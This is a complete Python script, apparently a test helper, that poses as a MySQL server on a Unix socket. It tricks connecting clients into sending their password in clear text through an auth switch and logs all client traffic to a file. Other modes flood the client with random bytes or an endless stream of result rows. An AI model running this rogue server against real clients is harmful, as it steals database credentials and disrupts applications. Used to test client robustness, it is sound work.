"""A program that says that it is a MySQL server, to get a client's password or to break the client:
hostile_server.py MODE SOCKET RECORD.

``password`` asks for the password in clear text, ``garbage`` answers with noise, ``endless`` lets
in whoever comes and answers everything with rows that never end. All that clients send is appended
to RECORD.
"""

import os
import random
import socket
import struct
import sys


def packet(number: int, body: bytes) -> bytes:
    return struct.pack("<I", len(body))[:3] + bytes([number % 256]) + body


# Client/Server Protocol, "Protocol::HandshakeV10"; no TLS (0x0800).
GREETING = (
    b"\x0a8.0.99\0"
    + struct.pack("<I", 7)
    + b"saltsalt\0"
    + struct.pack("<HBHHB", 0xF7FF, 33, 2, 0xC1FF, 21)
    + bytes(10)
    + b"saltsaltsalt\0"
    + b"mysql_native_password\0"
)
ASK_FOR_PASSWORD = b"\xfemysql_clear_password\0"
OK = b"\0\0\0\2\0\0\0"


def column(name: bytes) -> bytes:
    def text(value: bytes) -> bytes:
        return bytes([len(value)]) + value

    start = b"".join(map(text, (b"def", b"", b"", b"", name, name)))
    return start + b"\x0c" + struct.pack("<HIBHB", 33, 300, 0xFD, 0, 0) + bytes(2)


def serve(talk: socket.socket, mode: str, record: str) -> None:
    talk.sendall(packet(0, GREETING))
    answered = 0
    while received := talk.recv(1 << 16):
        with open(record, "ab") as file:
            file.write(received)
        answered += 1
        if mode == "garbage":
            talk.sendall(packet(2 if answered == 1 else 1, random.Random(answered).randbytes(5000)))
        elif mode == "password":
            talk.sendall(packet(2, ASK_FOR_PASSWORD) if answered == 1 else packet(4, OK))
        elif answered == 1:
            talk.sendall(packet(2, OK))
        elif received[4:5] == b"\x03" and received[5:8].upper() not in (b"SET", b"ROL"):
            end = packet(4, b"\xfe\0\0\2\0")
            talk.sendall(packet(1, b"\2") + packet(2, column(b"a")) + packet(3, column(b"b")) + end)
            number = 5
            while True:
                talk.sendall(b"".join(packet(number + i, b"\1x\1y") for i in range(1000)))
                number += 1000
        else:
            talk.sendall(packet(1, OK))


def main() -> None:
    mode, path, record = sys.argv[1:]
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen()
    os.chmod(path, 0o777)
    print("ready", flush=True)
    while True:
        talk = listener.accept()[0]
        try:
            serve(talk, mode, record)
        except OSError:
            pass
        talk.close()


main()
